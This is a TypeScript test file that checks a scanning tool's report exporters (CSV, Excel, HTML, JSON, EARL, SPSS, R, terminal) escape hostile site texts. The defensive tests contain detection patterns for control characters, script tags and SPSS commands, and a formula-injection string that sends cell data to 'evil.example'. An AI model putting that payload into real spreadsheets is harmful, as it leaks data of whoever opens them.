import { parse } from "csv-parse/sync";
import exceljs from "exceljs";
import jsonld from "jsonld";
import { describe, expect, test } from "vitest";
import { LANGUAGES } from "../../src/model/text.ts";
import { scoresCsv, scoresExcelCsv } from "../../src/report/csv.ts";
import { dataPackage } from "../../src/report/data-package.ts";
import { earlJson } from "../../src/report/earl.ts";
import { FILTER_SCRIPT } from "../../src/report/html/filter.ts";
import { printedReport } from "../../src/report/html/printed-report.ts";
import { htmlReport } from "../../src/report/html/report.ts";
import { scoresJson } from "../../src/report/json.ts";
import { rScript } from "../../src/report/r-script.ts";
import { spssSyntax } from "../../src/report/spss.ts";
import { renderTerminal } from "../../src/report/terminal.ts";
import { scoresWide } from "../../src/report/wide.ts";
import { scoresWorkbook } from "../../src/report/xlsx/workbook.ts";
import { aHostileTable, hostileCaptures } from "../support/a-hostile-report.ts";

/** Control characters but for line ends and tabs, marks that turn the direction round, and halves of characters. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for.
const HARMFUL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]|\p{Surrogate}/u;
const judgement = { scan: "s", instrumentDigest: "abc", judgeVersion: 1, judgedAt: "2026-11-25T09:00:00.000Z" };
const table = aHostileTable();

describe.each(LANGUAGES)("hostile texts of sites, in a table in language %s", (language) => {
  const table = aHostileTable(language);

  test("are data in every CSV: no formula, no control character, no row too many", () => {
    const files = [
      { text: scoresCsv(table, "abc"), delimiter: ",", rows: 101 },
      { text: scoresExcelCsv(table, "abc"), delimiter: ";", rows: 101 },
      { text: scoresWide(table), delimiter: ",", rows: 11 },
    ];
    for (const { text, delimiter, rows } of files) {
      const lines: string[][] = parse(text, { delimiter, bom: true });
      expect(lines).toHaveLength(rows);
      expect(text.split("\r\n")).toHaveLength(rows + 1);
      expect(lines.flat().filter((field) => field !== "-" && /^[=+\-@]/.test(field))).toEqual([]);
      expect(harmIn(text)).toBe("");
      expect(lines.flat().filter((field) => field.length > 2001)).toEqual([]);
    }
  });

  test("are texts in Excel, and the only formulas are ours", async () => {
    const bytes = await scoresWorkbook({ table, judgement, captures: hostileCaptures(), picture: () => undefined });
    const workbook = await opened(bytes);
    const cells = workbook.worksheets.flatMap((sheet) => cellsIn(sheet));
    const formulas = cells.filter((cell) => cell.formula !== undefined).map((cell) => cell.formula);
    expect(
      formulas.filter(
        (one) => !/^(HYPERLINK\("#\w+!A\d+",("[X?\-nvta.]+"|0)\)|COUNT[AIF]+\([^"]*(,"[^"]{1,6}")?\).*)$/.test(one),
      ),
    ).toEqual([]);
    const links = cells.flatMap((cell) => cell.hyperlink ?? []);
    expect(links.filter((link) => !/^https?:/.test(link))).toEqual([]);
    expect(cells.map((cell) => cell.text).filter((text) => HARMFUL.test(text))).toEqual([]);
    expect(cells.map((cell) => cell.text)).toContain(`=HYPERLINK("http://evil.example/?"&A1,"klik")`);
    expect(Math.max(...cells.map((cell) => cell.text.length))).toBeLessThan(32_767);
  });
});

test("hostile texts are escaped in web pages, which hold no script but our own and no address but web addresses", () => {
  const data = { table, judgement, captures: hostileCaptures(), pictures: true, downloads: [] };
  const printed = { path: "printed.html", content: printedReport(data) };
  for (const { path, content } of [...htmlReport(data), printed]) {
    expect(path).toMatch(/^[a-z0-9/-]+\.html$/);
    const strange = String(content).replaceAll(`<script>${FILTER_SCRIPT}</script>`, "");
    expect(/<script|<img src=x|javascript:[^<]*"/i.exec(strange)?.[0]).toBeUndefined();
    expect(harmIn(String(content))).toBe("");
  }
});

test("hostile texts are values in JSON, escaped where a script or an editor would stumble", () => {
  const text = scoresJson(table, "abc");
  expect(JSON.parse(text).sites[0].name).toMatch(/^=HYPERLINK/);
  expect(harmIn(text)).toBe("");
  expect(text).not.toContain("<");
});

test("hostile texts are literals in EARL", async () => {
  const text = earlJson(table);
  expect(harmIn(text)).toBe("");
  const triples = await jsonld.toRDF(JSON.parse(text), { format: "application/n-quads" });
  expect(String(triples)).not.toContain("<javascript:");
});

test("hostile texts are values in the data package, which names only files of its own", () => {
  const text = dataPackage(table, hostileCaptures(), [{ path: "scores.csv", content: scoresCsv(table, "abc") }]);
  expect(harmIn(text)).toBe("");
  expect(text).not.toContain("<");
  const { name, resources } = JSON.parse(text);
  expect(name).toMatch(/^[a-z0-9._-]+$/);
  expect(resources.map(({ path }: { path: string }) => path)).toEqual(["scores.csv"]);
});

test("hostile texts are labels in SPSS: no command of theirs stands at the beginning of a line", () => {
  const lines = spssSyntax(table).split("\r\n");
  expect(lines.filter((line) => /^\s*(ERASE|EXECUTE)/i.test(line))).toEqual(["EXECUTE."]);
  expect(harmIn(lines.join("\n"))).toBe("");
  const labels = lines.filter((line) => line.includes("'") && line.startsWith("  ") && !line.startsWith("  /"));
  expect(labels.filter((line) => !/^ {2}\w+ '(?:[^']|'')*'$/.test(line))).toEqual([]);
});

test("hostile texts are strings in R", () => {
  expect(rScript(table)).toMatch(/^[\x20-\x7e\n]*$/);
});

test("hostile texts do nothing to a terminal", () => {
  expect(harmIn(renderTerminal(table, { width: 120, color: false }))).toBe("");
});

/** What is harmful in a text as it is written: UTF-8 makes a sign of its own of half a character. */
function harmIn(text: string): string {
  return HARMFUL.exec(Buffer.from(text).toString())?.[0] ?? "";
}

async function opened(bytes: Uint8Array): Promise<exceljs.Workbook> {
  const workbook = new exceljs.Workbook();
  await workbook.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
  return workbook;
}

function cellsIn(sheet: exceljs.Worksheet): readonly exceljs.Cell[] {
  const cells: exceljs.Cell[] = [];
  sheet.eachRow((row) => row.eachCell((cell) => void cells.push(cell)));
  return cells;
}
